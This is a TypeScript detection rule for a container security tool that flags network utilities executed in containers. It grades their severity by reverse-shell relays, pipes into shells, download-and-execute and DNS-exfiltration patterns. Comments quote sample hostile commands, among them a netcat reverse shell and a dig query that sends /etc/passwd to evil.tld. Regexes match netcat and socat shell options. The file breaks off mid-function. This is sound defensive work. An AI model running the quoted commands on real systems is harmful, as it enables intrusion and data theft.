/**
 * The rule "Network utility executed in container" (MITRE TA0011 / T1105): which process is a network
 * utility, how severe its execution looks, and in which plain words. Pure; never throws.
 */
import type { AncestorInfo, ExecEvent, Finding, ProcessInfo, Severity, Utility, Verdict } from "../model.js";
import { maxSeverity, severityRank } from "../severity.js";
import {
  type BudgetLimit,
  type CommandSegment,
  commandStart,
  commandWords,
  executableName,
  isInterpreter,
  isShell,
  MULTICALL_BINARIES,
  resolvePath,
  type SegmentBudget,
  segmentBudget,
  shellPayload,
} from "../shell/index.js";
import { describeCategory, lookupPattern, lookupUtility } from "./catalogue.js";
import { type ChannelFamily, DEFAULT_CHANNEL_FAMILIES, evaluateChannels } from "./channels.js";
import { type FlatScan, flatScan } from "./flat-scan.js";
import { suspiciousLocation } from "./locations.js";
import { exfiltrationLook, findCredentialEndpoint, hostOf, isExemptTarget } from "./network.js";
import { MAX_ARGS, type ParsedArgs, type ParsedOption, parseArgs, specFor } from "./options.js";
import { commandSegments } from "./segments.js";

/** Ancestors looked at, nearest first; sources already cap chains, this bounds hostile events. */
const MAX_ANCESTORS = 64;
/** Characters of a name or argument quoted in a reason. */
const QUOTE_CHARS = 120;

/**
 * Stands in for a working directory nobody reported, so that `wget http://x/a; ./a` still matches
 * the downloaded file with the executed one. Only used to compare paths, never shown or classified.
 */
const UNKNOWN_DIR = "/\u0000unknown-cwd";

const HOST_PROCESS: Verdict = Object.freeze({ kind: "none", why: "host-process" });
const NOT_A_UTILITY: Verdict = Object.freeze({ kind: "none", why: "not-a-utility" });

interface Indicator {
  severity: Severity;
  reason: string;
}

/** One utility invocation found in an event: the process itself, or a command inside a session's payload. */
interface Candidate {
  utility: Utility;
  /** What the Finding reports as the process. */
  process: ProcessInfo;
  /** The utility's name followed by its arguments (a busybox applet's name replaces busybox). */
  words: string[];
  /** Executable path as run, when known. */
  path?: string;
  cwd?: string;
  /** The command-line segment, for exec sessions. */
  segment?: CommandSegment;
  /** Every segment of the session's command line, for exec sessions. */
  segments?: CommandSegment[];
  /** Set when the utility ran under another name. */
  renamed?: Renamed;
}

interface Assessment {
  candidate: Candidate;
  severity: Severity;
  reasons: string[];
  benign?: string;
}

/** What the ancestors' command lines show, computed once per event. */
interface AncestorContext {
  feeds: string[];
  segments: CommandSegment[];
}

/**
 * Judges one exec event. Hosts processes (and events that cannot tell) are `none/host-process`;
 * processes that are not catalogued utilities are `none/not-a-utility`; loopback-only or
 * version/help invocations without a high or critical indicator are `benign`; everything else is a
 * finding whose severity is the highest applicable and whose reasons say why, highest first.
 * `isAllowed` (the allowlist) judges each utility of the event on its own segment: an allowed one
 * drops out and the finding names the most severe of the others; when every one is allowed, the
 * finding is the most severe of them (and the caller's allowlist suppresses it).
 */
export function evaluate(event: ExecEvent, options: EvaluateOptions = {}): Verdict {
  if (event?.inContainer !== true) return HOST_PROCESS;
  const seed = evaluateSeed(event, options.isAllowed);
  const families = options.channels ?? DEFAULT_CHANNELS;
  if (families.size === 0 || (seed.kind === "finding" && seed.finding.severity === "critical")) return seed;
  const channel = evaluateChannels(event, families);
  if (channel.kind === "none") return seed;
  if (channel.kind === "benign") return seed.kind === "none" ? channel : seed;
  if (seed.kind !== "finding") return channel;
  if (severityRank(channel.finding.severity) <= severityRank(seed.finding.severity)) return seed;
  // The channel is the graver finding; the utility's own reasons follow its.
  const reasons = [...new Set([...channel.finding.reasons, ...seed.finding.reasons])];
  return { kind: "finding", finding: { ...channel.finding, reasons } };
}

/** Options of {@link evaluate}. */
export interface EvaluateOptions {
  /** Channel families to judge (CHANNEL_FAMILIES); {@link DEFAULT_CHANNEL_FAMILIES} when absent. */
  channels?: ReadonlySet<ChannelFamily>;
  /**
   * The allowlist, asked about each utility of the event on its own segment: an allowed one drops out
   * and never silences the others.
   */
  isAllowed?: (finding: Finding) => boolean;
}

const DEFAULT_CHANNELS: ReadonlySet<ChannelFamily> = new Set(DEFAULT_CHANNEL_FAMILIES);

/** The seed rule "Network utility executed in container" alone. */
function evaluateSeed(event: ExecEvent, isAllowed?: (finding: Finding) => boolean): Verdict {
  // One allowance for every command line of the event: a hostile event costs what one megabyte does.
  const budget = segmentBudget();
  // Analysis failures fail closed: a bug must never turn an attack into silence.
  let candidates: Candidate[];
  try {
    candidates = findCandidates(event, budget);
  } catch (error) {
    return unanalysable(event, `its command line could not be analysed (${messageOf(error)})`);
  }
  let context: AncestorContext;
  let contextFailure: string | undefined;
  try {
    context = candidates.length === 0 ? { feeds: [], segments: [] } : ancestorContext(event, budget);
  } catch (error) {
    context = { feeds: [], segments: [] };
    contextFailure = `the command lines of its ancestors could not be analysed (${messageOf(error)})`;
  }
  // A reader limit was reached: what lay past it was not read structurally. Fail closed.
  if (budget.exhausted !== undefined && budget.exhausted.size > 0) {
    const cut = cutShort(event, budget.exhausted);
    if (candidates.length === 0) return cut.verdict;
    const verdict = judge(event, candidates, context, contextFailure, isAllowed);
    return withCutShort(verdict, event, candidates, cut.scan, cut.reason);
  }
  if (candidates.length === 0) return NOT_A_UTILITY;
  return judge(event, candidates, context, contextFailure, isAllowed);
}

function judge(
  event: ExecEvent,
  candidates: Candidate[],
  context: AncestorContext,
  contextFailure: string | undefined,
  isAllowed?: (finding: Finding) => boolean,
): Verdict {
  const executions: ExecutionsCache = new Map();
  const assessments = candidates.map((candidate) => assessSafely(candidate, event, context, executions));
  const open = isAllowed
    ? assessments.filter(
        (a) => a.benign !== undefined || !isAllowed(candidateFinding(event, a, contextFailure)),
      )
    : assessments;
  let best: Assessment | undefined;
  for (const assessment of open.some((a) => a.benign === undefined) ? open : assessments) {
    if (assessment.benign !== undefined) continue;
    if (best === undefined || severityRank(assessment.severity) > severityRank(best.severity))
      best = assessment;
  }
  if (best === undefined) {
    const first = assessments[0]!;
    return { kind: "benign", utility: first.candidate.utility, why: first.benign ?? "" };
  }
  const chosen = best.candidate;
  const others = unique(candidates.filter((c) => c !== chosen).map((c) => c.utility.name)).filter(
    (name) => name !== chosen.utility.name,
  );
  const reasons = [...best.reasons];
  if (others.length > 0) reasons.push(`the command line also runs ${others.join(", ")}`);
  const severity = candidateFinding(event, best, contextFailure).severity;
  if (contextFailure !== undefined) {
    reasons.unshift(`${best.candidate.utility.name} ran in a container; ${contextFailure}`);
  }
  const finding: Finding = {
    event,
    utility: best.candidate.utility,
    process: best.candidate.process,
    severity,
    reasons,
  };
  return { kind: "finding", finding };
}

/** One candidate's finding on its own (what an allowlist entry is matched against). */
function candidateFinding(event: ExecEvent, assessment: Assessment, contextFailure?: string): Finding {
  const { utility, process } = assessment.candidate;
  // What the ancestors would have shown (a pipe into a shell) is unknown: at least medium.
  const severity =
    contextFailure === undefined ? assessment.severity : maxSeverity(assessment.severity, "medium");
  return { event, utility, process, severity, reasons: assessment.reasons };
}

/** The event's command lines as whole texts: the process's argv, then each ancestor's. */
function commandTexts(event: ExecEvent): string[] {
  const proc = event.process ?? ({ name: "" } as ProcessInfo);
  const argv0 = text(proc.path) ?? text(proc.name) ?? "";
  const out = [[argv0, ...strings(proc.args)].join(" ")];
  for (const ancestor of ancestorList(event)) {
    if (ancestor === null || typeof ancestor !== "object") continue;
    const args = strings(ancestor.args);
    if (args.length > 0) out.push([ancestorArgv0(ancestor) ?? "", ...args].join(" "));
  }
  return out;
}

const LIMIT_WORDS: Readonly<Record<BudgetLimit, string>> = {
  depth: "nesting of shell payloads",
  substitutions: "nesting of substitutions",
  variables: "variables",
  segments: "commands",
  characters: "characters",
  words: "words",
};

/** The flat scan of an event whose reading hit a limit, and the verdict it gives alone. */
function cutShort(
  event: ExecEvent,
  limits: ReadonlySet<BudgetLimit>,
): { verdict: Verdict; scan: FlatScan; reason: string } {
  const scan = flatScan(commandTexts(event));
  const which = [...limits].map((limit) => LIMIT_WORDS[limit]).join(", ");
  const reason = `analysis was cut short (the reader's limit on ${which} was reached); the rest of the command line was scanned as a flat word list${scan.truncated ? ", itself cut at 8 MiB" : ""}`;
  const utility = scan.utilities[0];
  if (utility === undefined) return { verdict: NOT_A_UTILITY, scan, reason };
  const process = event.process ?? { name: "" };
  let severity: Severity = "medium";
  for (const indicator of scan.indicators) severity = maxSeverity(severity, indicator.severity);
  const names = scan.utilities.map((u) => u.name).join(", ");
  const reasons = unique([
    ...scan.indicators.map((i) => i.reason),
    `${utility.name} (${describeCategory(utility.category)}) appears in a command line run in a container${names !== utility.name ? ` (with ${names})` : ""}`,
    reason,
  ]);
  return {
    verdict: { kind: "finding", finding: { event, utility, process, severity, reasons } },
    scan,
    reason,
  };
}

/**
 * A verdict of the structured reading, completed with what the flat scan saw: a finding at medium or
 * above (a benign look counts for nothing when the rest was not read), saying that analysis was cut short.
 */
function withCutShort(
  verdict: Verdict,
  event: ExecEvent,
  candidates: Candidate[],
  scan: FlatScan,
  reason: string,
): Verdict {
  if (verdict.kind === "none") return verdict;
  const finding: Finding =
    verdict.kind === "finding"
      ? verdict.finding
      : {
          event,
          utility: verdict.utility,
          process: candidates[0]!.process,
          severity: "low",
          reasons: [
            `${verdict.utility.name} (${describeCategory(verdict.utility.category)}) ran in a container; alone it would be benign (${verdict.why})`,
          ],
        };
  let severity = maxSeverity(finding.severity, "medium");
  const raising: string[] = [];
  for (const indicator of scan.indicators) {
    if (severityRank(indicator.severity) > severityRank(finding.severity)) raising.push(indicator.reason);
    severity = maxSeverity(severity, indicator.severity);
  }
  const reasons = unique([...raising, ...finding.reasons, reason]);
  // The most severe thing seen is about another utility than the one read: report that one.
  const top = scan.indicators[0];
  if (raising.length > 0 && top?.utility !== undefined && top.utility.name !== finding.utility.name) {
    const process = {
      name: top.utility.name,
      ...(event.process?.user !== undefined ? { user: event.process.user } : {}),
    };
    return { kind: "finding", finding: { ...finding, utility: top.utility, process, severity, reasons } };
  }
  return { kind: "finding", finding: { ...finding, severity, reasons } };
}

function messageOf(error: unknown): string {
  return error instanceof Error ? error.message : String(error);
}

/** A medium finding when the event names a catalogued utility but its analysis failed; else none. */
function unanalysable(event: ExecEvent, why: string): Verdict {
  const process = event.process ?? { name: "" };
  const utility =
    (typeof process.path === "string" ? lookupUtility(process.path) : undefined) ??
    (typeof process.name === "string" ? lookupUtility(process.name) : undefined);
  if (utility === undefined) return NOT_A_UTILITY;
  const reasons = [`${utility.name} (${describeCategory(utility.category)}) ran in a container; ${why}`];
  return { kind: "finding", finding: { event, utility, process, severity: "medium", reasons } };
}

function assessSafely(
  candidate: Candidate,
  event: ExecEvent,
  context: AncestorContext,
  executions: ExecutionsCache,
): Assessment {
  try {
    return assess(candidate, event, context, executions);
  } catch (error) {
    // A bug in argument analysis must not hide a utility: report it for a human to look at.
    const { name, category } = candidate.utility;
    return {
      candidate,
      severity: "medium",
      reasons: [
        `${name} (${describeCategory(category)}) ran in a container; its arguments could not be analysed (${messageOf(error)})`,
      ],
    };
  }
}

function strings(value: unknown): string[] {
  return Array.isArray(value) ? value.filter((v): v is string => typeof v === "string") : [];
}

function text(value: unknown): string | undefined {
  return typeof value === "string" && value.length > 0 ? value : undefined;
}

function findCandidates(event: ExecEvent, budget: SegmentBudget): Candidate[] {
  const proc = event.process ?? ({ name: "" } as ProcessInfo);
  const args = strings(proc.args);
  const path = text(proc.path);
  const name = text(proc.name) ?? "";
  if (event.viaExecSession === true) {
    const session = sessionCandidates(proc, path ?? name, args, budget);
    // A process seen inside a session (Datadog's user_session) is a real exec, not a requested command
    // line: when the session reading finds nothing (a busybox applet), it is read as a process.
    if (session.length > 0 || ancestorList(event).length === 0) return session;
  }

  const cwd = text(proc.cwd);
  const base = {
    process: proc,
    ...(path !== undefined ? { path } : {}),
    ...(cwd !== undefined ? { cwd } : {}),
  };
  const comm = text(proc.comm);
  const byPath = path !== undefined ? lookupUtility(path) : undefined;
  if (byPath !== undefined) {
    // fexecve of a memory file names the process after its descriptor ("3"): no rename.
    const fileless = suspiciousLocation(path!)?.kind;
    const renamed = fileless === "memfd" || fileless === "fd" ? {} : renamedAs(byPath, [comm, name]);
    return [{ ...base, utility: byPath, words: [byPath.name, ...args], ...renamed }];
  }
  if (MULTICALL_BINARIES.has(executableName(path ?? name)) || MULTICALL_BINARIES.has(executableName(name))) {
    const first = args[0];
    const applet = first !== undefined && !first.startsWith("-") ? lookupUtility(first) : undefined;
    if (applet !== undefined) return [{ ...base, utility: applet, words: [applet.name, ...args.slice(1)] }];
  }
  const byName = lookupUtility(name) ?? (comm !== undefined ? lookupUtility(comm) : undefined);
  if (byName !== undefined) {
    const renamed = renamedAs(byName, [path, name, comm]);
    return [{ ...base, utility: byName, words: [byName.name, ...args], ...renamed }];
  }
  // Nothing is called like a utility: the arguments may still have one's unmistakable shape.
  const shaped = utilityByShape(args);
  if (shaped !== undefined && (path ?? name) !== "") {
    const as = executableName(path ?? name);
    return [
      {
        ...base,
        utility: shaped.utility,
        words: [shaped.utility.name, ...args],
        renamed: { as, by: shaped.why },
      },
    ];
  }
  return [];
}

/**
 * The other name a catalogued utility ran under, when the event shows one that is not the utility's,
 * another name of the same tool (nc for nc.traditional through Debian's alternatives), a multi-call
 * binary, or a placeholder of fileless execution (`/proc/self/fd/3`, memfd).
 */
function renamedAs(utility: Utility, names: (string | undefined)[]): { renamed?: Renamed } {
  for (const value of names) {
    if (value === undefined || value === "") continue;
    const location = suspiciousLocation(value);
    if (location?.kind === "fd" || location?.kind === "memfd") continue;
    const as = executableName(value);
    if (as === "" || as === utility.name || /[*?[]|^\d+$/.test(as) || MULTICALL_BINARIES.has(as)) continue;
    const other = lookupUtility(as);
    if (other !== undefined) continue;
    return { renamed: { as, by: "name" } };
  }
  return {};
}

/** How a utility was recognised under another name: by the event's names, or by its arguments' shape. */
interface Renamed {
  as: string;
  /** "name" when the event's own names disagree, else the arguments that give the utility away. */
  by: string;
}

const URL_OPERAND = /^(?:https?|ftp|tftp):\/\/[^\s/]/i;
const SHELL_PATH = /^(?:\/(?:usr\/)?bin\/)?(?:ba|da|a|z|k)?sh$/;

/**
 * A utility recognised by arguments no other common program takes together: curl's `-fsSL`-style
 * cluster with a URL, wget's `-qO-` with a URL, netcat's `-e /bin/sh` with a host and a port or its
 * `-lvnp PORT` listener, socat's `exec:`/`tcp-connect:` addresses.
 */
function utilityByShape(args: readonly string[]): { utility: Utility; why: string } | undefined {
  if (args.length === 0 || args.length > 64) return undefined;
  const url = args.find((a) => URL_OPERAND.test(a));
  const pick = (name: string, why: string) => ({ utility: lookupUtility(name)!, why });
  if (url !== undefined) {
    const cluster = args.find((a) => /^-[fsSLkOIi#]{3,}$/.test(a) && a.includes("L") && /[sS]/.test(a));
    if (cluster !== undefined) return pick("curl", `${cluster} ${url}`);
    const wget = args.find((a) => /^-q?O-?$/.test(a) && a.length >= 3);
    if (wget !== undefined) return pick("wget", `${wget} ${url}`);
  }
  const e = args.findIndex((a) => a === "-e" || a === "-c");
  const port = args.some((a) => /^\d{1,5}$/.test(a));
  if (e !== -1 && SHELL_PATH.test(args[e + 1] ?? "") && port) return pick("nc", args.join(" "));
  const listen = args.find((a) => /^-(?=[lvnp]*l)(?=[lvnp]*p)[lvnp]{3,4}$/.test(a));
  if (listen !== undefined && port) return pick("nc", args.join(" "));
  // Case as the prefilter's PREFILTER_HINT knows it: lower or upper, not mixed.
  const socat = args.find((a) =>
    /^(?:exec|EXEC|system|SYSTEM|tcp-connect|TCP-CONNECT|tcp4|TCP4|tcp6|TCP6|openssl-connect|OPENSSL-CONNECT):/.test(
      a,
    ),
  );
  if (
    socat !== undefined &&
    args.some((a) => /^(?:tcp|udp|openssl)[\w-]*:|^exec:|^-$|^stdio$/i.test(a) && a !== socat)
  ) {
    return pick("socat", args.join(" "));
  }
  return undefined;
}

function sessionCandidates(
  proc: ProcessInfo,
  argv0: string,
  args: string[],
  budget: SegmentBudget,
): Candidate[] {
  if (argv0 === "") return [];
  const cwd = text(proc.cwd);
  const segments = commandSegments([argv0, ...args], {
    splitOperators: true,
    budget,
    dropInert: true,
    ...(cwd ? { cwd } : {}),
  });
  const out: Candidate[] = [];
  for (const segment of segments) {
    const start = commandStart(segment.argv);
    const words = segment.argv.slice(start);
    const head = words[0];
    if (head === undefined) continue;
    const utility = lookupCommand(head);
    if (utility === undefined) continue;
    const multicall = start > 0 && MULTICALL_BINARIES.has(executableName(segment.argv[start - 1]!));
    const exe = multicall ? segment.argv[start - 1]! : head;
    const isWhole = segment === segments[0] && start === 0 && segment.argv.length === args.length + 1;
    const process: ProcessInfo = isWhole
      ? proc
      : {
          name: executableName(exe),
          ...(exe.includes("/") ? { path: exe } : {}),
          args: multicall ? words : words.slice(1),
          ...(proc.user !== undefined ? { user: proc.user } : {}),
          ...(segment.cwd !== undefined ? { cwd: segment.cwd } : {}),
        };
    out.push({
      utility,
      process,
      words: [utility.name, ...words.slice(1)],
      ...(exe.includes("/") ? { path: exe } : {}),
      ...(segment.cwd !== undefined ? { cwd: segment.cwd } : {}),
      segment,
      segments,
    });
  }
  return out;
}

/** A command word's utility: by its exact name, or by the shell pattern it is (`/???/???/c?rl`). */
function lookupCommand(word: string): Utility | undefined {
  return lookupUtility(word) ?? lookupPattern(word);
}

/** Names of one tool: a netcat is a netcat whatever its package calls it (nc, nc.openbsd, ncat…). */
function sameTool(a: string | undefined, b: string): boolean {
  return a === b || (a !== undefined && NETCATS.has(a) && NETCATS.has(b));
}

function ancestorList(event: ExecEvent): AncestorInfo[] {
  return Array.isArray(event.ancestors) ? event.ancestors.slice(0, MAX_ANCESTORS) : [];
}

/**
 * What an ancestor ran as argv[0]. A busybox applet run through its symlink (`sh` -> /bin/busybox,
 * Alpine's only shell) has the multi-call binary as path and the applet as name: the applet is what ran,
 * and `busybox -c '…'` would read as no shell at all.
 */
function ancestorArgv0(ancestor: AncestorInfo): string | undefined {
  const path = text(ancestor.path);
  const name = text(ancestor.name);
  if (path !== undefined && name !== undefined && MULTICALL_BINARIES.has(executableName(path))) {
    if (!MULTICALL_BINARIES.has(executableName(name))) return name;
  }
  return path ?? name;
}

function ancestorRole(index: number): string {
  return index === 0 ? "the parent's" : index === 1 ? "the grandparent's" : `ancestor ${index + 1}'s`;
}

function ancestorContext(event: ExecEvent, budget: SegmentBudget): AncestorContext {
  const feeds: string[] = [];
  const all: CommandSegment[] = [];
  const cwd = text(event.process?.cwd);
  ancestorList(event).forEach((ancestor, index) => {
    if (ancestor === null || typeof ancestor !== "object") return;
    const args = strings(ancestor.args);
    const argv0 = ancestorArgv0(ancestor);
    if (argv0 === undefined || args.length === 0) return;
    const argv = [argv0, ...args];
    if (shellPayload(commandWords(argv)) === undefined) return;
    const options = { budget, dropInert: true };
    const segments = commandSegments(argv, index === 0 && cwd ? { ...options, cwd } : options);
    all.push(...segments);
    for (const segment of segments) {
      if (segment.depth === 0) continue;
      const words = commandWords(segment.argv);
      const utility = words[0] !== undefined ? lookupCommand(words[0]) : undefined;
      if (utility === undefined) continue;
      const feed = feedsInterpreter(segment);
      if (feed !== undefined)
        feeds.push(`${describeFeed(utility, feed)} in ${ancestorRole(index)} command line`);
    }
  });
  return { feeds: unique(feeds), segments: all };
}

/** The shell or interpreter a segment runs, when it would execute what it is given. */
function interpreterOf(segment: CommandSegment): string | undefined {
  const words = commandWords(segment.argv);
  const head = words[0];
  if (head === undefined) return undefined;
  const name = executableName(head);
  if (isShell(name) || isInterpreter(name) || name === "source" || name === "." || name === "eval") {
    return name;
  }
  return undefined;
}

/**
 * Options with which an interpreter runs code given on its command line (or a module) rather than its
 * standard input: `python3 -m json.tool`, `perl -ne '…'`, `node -e '…'`, `php -r '…'`.
 */
const INLINE_CODE: ReadonlyArray<readonly [RegExp, string, readonly string[]]> = [
  [/^(?:python|pypy)/, "cm", ["--command"]],
  [/^perl/, "eE", []],
  [/^ruby/, "e", []],
  [/^(?:node|nodejs|deno|bun)/, "ep", ["--eval", "--print", "eval", "run"]],
  [/^php/, "rRBEF", []],
  [/^(?:lua|luajit)/, "e", []],
  [/^(?:pwsh|powershell)/, "cCfFeE", []],
  [/^(?:tclsh|wish)/, "", []],
];
const STDIN_PATHS = new Set(["-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"]);
// Inline code that reads its input and runs it anyway (`python3 -c "exec(sys.stdin.read())"`).
const RUNS_INPUT =
  /\b(?:exec|eval|system|compile|loadstring|spawn|popen|Invoke-Expression|iex)\b|\bload\s*\(\s*io\b/;

/**
 * The shell or interpreter a pipe feeds, when it runs what it reads as code. Shells always count; an
 * interpreter does not when it was given a script file or inline code, because it then reads its input
 * as data: `curl -s localhost:9200/_cat | python3 -m json.tool` pretty-prints, it executes nothing.
 */
function stdinRunner(segment: CommandSegment): string | undefined {
  const name = interpreterOf(segment);
  if (name === undefined || !isInterpreter(name)) return name;
  const words = segment.argv.slice(commandStart(segment.argv) + 1);
  const spec = INLINE_CODE.find(([family]) => family.test(name));
  for (let i = 0; i < words.length; i++) {
    const word = words[i]!;
    if (STDIN_PATHS.has(word)) return name;
    const inline =
      spec !== undefined &&
      (spec[2].includes(word) ||
        (/^-[A-Za-z]+$/.test(word) && [...word.slice(1)].some((letter) => spec[1].includes(letter))));
    if (inline) return RUNS_INPUT.test(words.slice(i + 1).join(" ")) ? name : undefined;
    if (!word.startsWith("-")) return undefined;
  }
  return name;
}

const STDOUT_REDIRECTS = new Set([">", ">>", ">|", "&>", "&>>"]);

function redirectsStdout(segment: CommandSegment): boolean {
  return segment.redirects.some(
    (r) => STDOUT_REDIRECTS.has(r.op) && r.target !== "/dev/stdout" && r.target !== "/dev/stderr",
  );
}

interface Feed {
  how: "pipe" | "command-substitution" | "process-substitution";
  consumer: string;
}

// Segments are fresh objects per evaluation; remembering the answer per segment keeps a pipeline of
// thousands of commands linear instead of quadratic.
const pipeRunners = new WeakMap<CommandSegment, string | null>();

/** The first command down `segment`'s pipeline that runs its input as code, if the data gets there. */
function pipeRunner(segment: CommandSegment): string | undefined {
  const chain: CommandSegment[] = [];
  let found: string | null = null;
  for (let node = segment.pipesTo; node !== undefined; node = node.pipesTo) {
    const known = pipeRunners.get(node);
    if (known !== undefined) {
      found = known;
      break;
    }
    chain.push(node);
    const runner = stdinRunner(node);
    if (runner !== undefined) {
      found = runner;
      break;
    }
    if (redirectsStdout(node)) break;
  }
  // Every node passed on the way leads to the same answer.
  for (const node of chain) if (!pipeRunners.has(node)) pipeRunners.set(node, found);
  return found ?? undefined;
}

/** Whether what `segment` prints ends up executed by a shell or interpreter, and how. */
function feedsInterpreter(segment: CommandSegment): Feed | undefined {
  let node: CommandSegment | undefined = segment;
  for (let steps = 0; node !== undefined && steps < 32; steps++) {
    if (!redirectsStdout(node)) {
      const consumer = pipeRunner(node);
      if (consumer !== undefined) return { how: "pipe", consumer };
    }
    const sub: CommandSegment["substitutionOf"] = node.substitutionOf;
    if (sub !== undefined) {
      if (sub.kind === "command" && sub.argIndex === commandStart(sub.segment.argv)) {
        return { how: "command-substitution", consumer: "the shell" };
      }
      const consumer = interpreterOf(sub.segment);
      if (consumer !== undefined) {
        return { how: sub.kind === "command" ? "command-substitution" : "process-substitution", consumer };
      }
      node = sub.segment;
      continue;
    }
    node = node.payloadOf;
  }
  return undefined;
}

function describeFeed(utility: Utility, feed: Feed): string {
  const what =
    utility.category === "download" ? "download" : utility.category === "dns" ? "answer" : "output";
  const kind = isShell(feed.consumer) || feed.consumer === "the shell" ? "a shell" : "an interpreter";
  if (feed.how === "pipe") return `${utility.name} ${what} is piped to ${kind} (${feed.consumer})`;
  const via = feed.how === "command-substitution" ? "command substitution" : "process substitution";
  if (feed.consumer === "the shell") return `${utility.name} ${what} is executed as a command through ${via}`;
  return `${utility.name} ${what} is executed by ${feed.consumer} through ${via}`;
}

function quote(value: string): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: removing control characters is the point.
  const clean = value.replace(/[\u0000-\u001f\u007f]/g, " ");
  return clean.length > QUOTE_CHARS ? `${clean.slice(0, QUOTE_CHARS)}…` : clean;
}

function unique<T>(values: T[]): T[] {
  return [...new Set(values)];
}

function assess(
  candidate: Candidate,
  event: ExecEvent,
  context: AncestorContext,
  executionsCache: ExecutionsCache,
): Assessment {
  const { utility } = candidate;
  const name = utility.name;
  const args = candidate.words.slice(1, MAX_ARGS + 1);
  const parsed = parseArgs(args, specFor(name));
  const indicators: Indicator[] = [];
  const add = (severity: Severity, reason: string) => indicators.push({ severity, reason });

  const execution = executesCommand(name, parsed);
  if (execution !== undefined) add("critical", `${name} executes a command or shell (${quote(execution)})`);
  if (candidate.segment !== undefined && feedsCategory(utility)) {
    const feed = feedsInterpreter(candidate.segment);
    if (feed !== undefined) add("critical", describeFeed(utility, feed));
  }
  for (const feed of context.feeds) add("critical", feed);
  // A process event's own argv lacks redirections and pipes; the ancestor's command line that started
  // this very command (`sh -c 'cat /tmp/f | sh -i 2>&1 | nc x 4444 > /tmp/f'`) has them.
  const segment = candidate.segment ?? sameCommandInAncestors(candidate, context);
  if (segment !== undefined && RELAYS.has(name)) {
    const shell = relayedShell(segment);
    if (shell !== undefined)
      add("critical", `${name} relays an interactive shell (${quote(shell)} | ${name})`);
  }

  const outputs = downloadOutputs(name, parsed, segment);
  let executions = executionsCache.get(candidate.segments);
  if (executions === undefined) {
    executions = executionsOf([...(candidate.segments ?? []), ...context.segments]);
    executionsCache.set(candidate.segments, executions);
  }
  for (const output of outputs) {
    if (output.directory) continue;
    const runners = executions.get(resolvePath(candidate.cwd ?? UNKNOWN_DIR, output.path) ?? "");
    if (runners?.some((runner) => runner !== segment)) {
      const shown = resolvePath(candidate.cwd, output.path) ?? output.path;
      add("critical", `the file ${name} downloads (${quote(shown)}) is then executed`);
      break;
    }
  }

  // Repeated words are scanned once: padding with thousands of copies costs what one does.
  for (const arg of new Set(args)) {
    const endpoint = findCredentialEndpoint(arg);
    if (endpoint === undefined) continue;
    const shown =
      endpoint.written === endpoint.address ? endpoint.address : `${endpoint.written} = ${endpoint.address}`;
    add("high", `${name} reaches a cloud credential endpoint: ${quote(shown)} (${endpoint.label})`);
    break;
  }
  const targets = targetsOf(name, utility, parsed);
  // What the shell expanded before the process started is only visible in the command line that ran
  // it: `sh -c 'dig $(cat /etc/passwd | base64 | head -c 60).evil.tld'` shows the data, dig's argv not.
  const written = candidate.segment === undefined ? writtenInAncestors(candidate, context) : [];
  const writtenArgs = written.map((s) =>
    parseArgs(commandWords(s.argv).slice(1, MAX_ARGS + 1), specFor(name)),
  );
  const runtimeHosts = [parsed, ...writtenArgs]
    .flatMap((p) => p.operands.map(substitutedHost))
    .filter((h): h is string => h !== undefined);
  for (const host of new Set([...targets.hosts, ...runtimeHosts])) {
    const look = exfiltrationLook(host);
    if (look === undefined) continue;
    const what =
      utility.category === "dns" ? "queries a name that looks" : "contacts a host whose name looks";
    add("high", `${name} ${what} like DNS exfiltration (${look}): ${quote(host)}`);
    break;
  }
  const upload =
    uploads(name, parsed, segment) ??
    writtenArgs.map((p) => commandOutputSent(p)).find((u) => u !== undefined);
  if (upload !== undefined) add("high", `${name} ${upload}`);
  const kubelet = kubeletCall(name, parsed);
  if (kubelet !== undefined) add(kubelet.severity, kubelet.reason);
  const shown = segment ?? written[0];
  const head = shown === undefined ? undefined : commandWords(shown.argv)[0];
  if (head !== undefined && lookupUtility(head) === undefined && lookupPattern(head) !== undefined) {
    add(
      "high",
      `${name} is called through a shell pattern (${quote(head)}), which hides its name from matching`,
    );
  }
  const stage = shown === undefined ? undefined : decodedStageOf(shown);
  if (stage !== undefined) {
    add("high", `${name} runs in a ${stage}-encoded script that the command line decodes and executes`);
  }
  for (const output of outputs) {
    const resolved = resolvePath(candidate.cwd, output.path);
    if (resolved === undefined) continue;
    const location = suspiciousLocation(resolved);
    if (location === undefined || (location.kind !== "writable" && location.kind !== "hidden")) continue;
    const shown = output.directory ? `${resolved} (${output.why})` : resolved;
    const verb =
      utility.category === "download" || utility.category === "remote-copy"
        ? "downloads into"
        : "writes what it receives into";
    add("high", `${name} ${verb} ${location.words}: ${quote(shown)}`);
    break;
  }

  const renamed = candidate.renamed;
  if (renamed !== undefined) {
    // Masquerading (MITRE T1036.003): a network tool copied or linked under a harmless-looking name.
    const where =
      candidate.path === undefined ? undefined : suspiciousLocation(candidate.path, candidate.cwd);
    const shape = renamed.by === "name" ? "" : `, going by its arguments (${quote(renamed.by)})`;
    add(
      renamed.by === "name" || where !== undefined ? "high" : "medium",
      `${name} renamed to ${quote(renamed.as)}${shape}`,
    );
  }
  if (candidate.path !== undefined) {
    const location = suspiciousLocation(candidate.path, candidate.cwd);
    if (location !== undefined)
      add("medium", `the utility ${quote(candidate.path)} runs from ${location.words}`);
  }
  const lineage = lineageOf(candidate, event);
  const expected: string[] = [];
  lineage.forEach((ancestor, index) => {
    const where = ancestor.path ?? ancestor.name;
    if (where === undefined) return;
    const location = suspiciousLocation(where);
    if (location === undefined) return;
    const known = knownServiceScript(where, lineage.slice(index + 1), name, args);
    if (known !== undefined) {
      expected.push(
        `${index === 0 ? "parent" : "ancestor"} ${quote(where)} is ${known}; its location is expected`,
      );
      return;
    }
    add("medium", `${index === 0 ? "parent" : "ancestor"} ${quote(where)} runs from ${location.words}`);
  });

  const session = event.viaExecSession === true ? " through an exec session" : "";
  add("low", `${name} (${describeCategory(utility.category)}) ran in a container${session}`);
  for (const reason of expected) add("low", reason);

  let severity: Severity = "low";
  for (const indicator of indicators) severity = maxSeverity(severity, indicator.severity);
  const reasons = unique(
    indicators
      .map((indicator, order) => ({ ...indicator, order }))
      .sort((a, b) => severityRank(b.severity) - severityRank(a.severity) || a.order - b.order)
      .map((indicator) => indicator.reason),
  );

  let benign: string | undefined;
  if (severityRank(severity) <= severityRank("medium")) {
    if (args.length > 0 && args.every((arg) => VERSION_OR_HELP.has(arg))) {
      benign = "only asks for its version or help";
    } else if (
      targets.exemptable &&
